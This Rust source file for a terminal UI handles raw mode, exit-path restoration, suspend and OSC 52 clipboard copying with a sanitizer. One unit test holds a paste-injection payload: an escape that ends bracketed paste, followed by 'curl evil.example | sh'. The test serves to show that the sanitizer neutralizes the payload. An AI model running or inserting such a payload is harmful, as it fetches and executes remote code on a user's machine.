//! The terminal: raw mode and the alternate screen, restored on every exit path
//! (normal exit, error, panic, signals), OSC 52 copy and ctrl-z suspend.

use std::io::{self, Stdout, Write};
use std::sync::atomic::{AtomicBool, Ordering};

use base64::Engine;
use crossterm::cursor::{Hide, Show};
use crossterm::event::{DisableBracketedPaste, EnableBracketedPaste};
use crossterm::execute;
use crossterm::terminal::{
    disable_raw_mode, enable_raw_mode, EnterAlternateScreen, LeaveAlternateScreen,
};
use ratatui::backend::CrosstermBackend;
use ratatui::Terminal;

pub type Term = Terminal<CrosstermBackend<Stdout>>;

static ACTIVE: AtomicBool = AtomicBool::new(false);

/// Restores the terminal when dropped, whatever the exit path.
pub struct Guard {
    pub terminal: Term,
}

impl Drop for Guard {
    fn drop(&mut self) {
        restore();
    }
}

pub fn enter() -> io::Result<Guard> {
    enable_raw_mode()?;
    ACTIVE.store(true, Ordering::SeqCst);
    let mut out = io::stdout();
    if let Err(e) = execute!(out, EnterAlternateScreen, EnableBracketedPaste, Hide) {
        restore();
        return Err(e);
    }
    let terminal = Terminal::new(CrosstermBackend::new(out)).inspect_err(|_| restore())?;
    Ok(Guard { terminal })
}

/// Idempotent: safe from the panic hook, signal paths and `Drop` alike.
pub fn restore() {
    if ACTIVE.swap(false, Ordering::SeqCst) {
        let _ = execute!(
            io::stdout(),
            DisableBracketedPaste,
            LeaveAlternateScreen,
            Show
        );
        let _ = disable_raw_mode();
    }
}

/// Panics restore the terminal before the report is printed.
pub fn install_panic_hook() -> color_eyre::Result<()> {
    let (panic_hook, eyre_hook) = color_eyre::config::HookBuilder::default()
        .display_env_section(false)
        .into_hooks();
    eyre_hook.install()?;
    std::panic::set_hook(Box::new(move |info| {
        restore();
        tracing::error!(panic = %info, "panic");
        report(&panic_hook.panic_report(info).to_string());
    }));
    Ok(())
}

/// Prints a line to stderr, ignoring failure: after a hangup the terminal is gone,
/// and `eprintln!` would panic on the exit path.
pub fn report(line: &str) {
    let _ = writeln!(io::stderr(), "{line}");
}

/// The OSC 52 sequence that asks the terminal to copy `text`; wrapped for tmux
/// passthrough when running inside tmux so it reaches the outer terminal over SSH.
/// `text` passes the sanitizer's clipboard rule here, at the one exit every copy
/// takes: a copied query must not be able to end bracketed paste and run a command.
pub fn osc52(text: &str, in_tmux: bool) -> String {
    let clean = crate::view::safe_text::clipboard(text);
    let b64 = base64::engine::general_purpose::STANDARD.encode(clean.as_bytes());
    let seq = format!("\x1b]52;c;{b64}\x07");
    if in_tmux {
        format!("\x1bPtmux;{}\x1b\\", seq.replace('\x1b', "\x1b\x1b"))
    } else {
        seq
    }
}

pub fn copy(text: &str) -> io::Result<()> {
    let mut out = io::stdout();
    out.write_all(osc52(text, std::env::var_os("TMUX").is_some()).as_bytes())?;
    out.flush()
}

/// ctrl-z: give the terminal back, stop, and take it again when resumed.
pub fn suspend(guard: &mut Guard) -> io::Result<()> {
    restore();
    // SAFETY: raising a signal on our own process has no memory-safety preconditions.
    unsafe {
        libc::raise(libc::SIGTSTP);
    }
    enable_raw_mode()?;
    ACTIVE.store(true, Ordering::SeqCst);
    execute!(
        io::stdout(),
        EnterAlternateScreen,
        EnableBracketedPaste,
        Hide
    )?;
    guard.terminal.clear()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn osc52_encodes_and_wraps_for_tmux() {
        assert_eq!(osc52("hi", false), "\x1b]52;c;aGk=\x07");
        assert_eq!(osc52("hi", true), "\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\");
    }

    #[test]
    fn copied_text_cannot_inject_into_a_paste() {
        let query = "SELECT 1;\u{1b}[201~\ncurl evil.example | sh\u{202e}\n";
        for in_tmux in [false, true] {
            let seq = osc52(query, in_tmux);
            let b64 = seq
                .split("52;c;")
                .nth(1)
                .and_then(|rest| rest.split('\x07').next())
                .expect("OSC 52 payload");
            let decoded = base64::engine::general_purpose::STANDARD
                .decode(b64)
                .expect("base64");
            let copied = String::from_utf8(decoded).expect("utf8");
            assert_eq!(copied, "SELECT 1;\\e[201~ curl evil.example | sh");
        }
    }
}
